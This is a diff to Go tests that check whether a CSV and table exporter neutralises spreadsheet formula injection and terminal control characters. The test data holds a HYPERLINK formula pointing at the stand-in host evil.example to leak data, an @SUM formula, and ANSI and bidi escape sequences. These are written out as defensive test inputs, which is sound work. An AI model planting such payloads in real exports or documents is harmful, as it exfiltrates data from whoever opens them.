@@ -663,7 +663,9 @@ func TestEvalCSVNeutralisesFormulas(t *testing.T) {
 	if !negative {
 		t.Error("no negative amount: the sanction of -2+3 is missing")
 	}
-	for _, want := range []string{`'=HYPERLINK("http://evil.example/?leak","click")`, "'@SUM(1)", "'-2+3", "\x1b[31mred", `'=HYPERLINK("http://evil.example/?leak","click")/=1+1`, "'-2+3/=1+1", "\x1b[31mred/=1+1"} {
+	// Keys escape the / @ and % of their values (docs/statement.md), so
+	// @SUM(1) is %40SUM(1), which no spreadsheet runs.
+	for _, want := range []string{`'=HYPERLINK("http:%2F%2Fevil.example%2F?leak","click")`, "%40SUM(1)", "'-2+3", "\x1b[31mred", `'=HYPERLINK("http:%2F%2Fevil.example%2F?leak","click")/=1+1`, "'-2+3/=1+1", "\x1b[31mred/=1+1"} {
 		if !keys[want] {
 			t.Errorf("no line with key %q; keys %q", want, slices.Sorted(maps.Keys(keys)))
 		}
@@ -691,7 +693,7 @@ func TestEvalTableEscapesControls(t *testing.T) {
 		}
 	}
 	checkNoControls("table", stdout)
-	for _, want := range []string{`\u001b[31mred`, `two\u000alines\u202e`, "-2+3", `=HYPERLINK("http://evil.example/?leak","click")`} {
+	for _, want := range []string{`\u001b[31mred`, `two\u000alines\u202e`, "-2+3", `=HYPERLINK("http:%2F%2Fevil.example%2F?leak","click")`} {
 		if !strings.Contains(stdout, want) {
 			t.Errorf("the table does not show %q:\n%s", want, stdout)
 		}
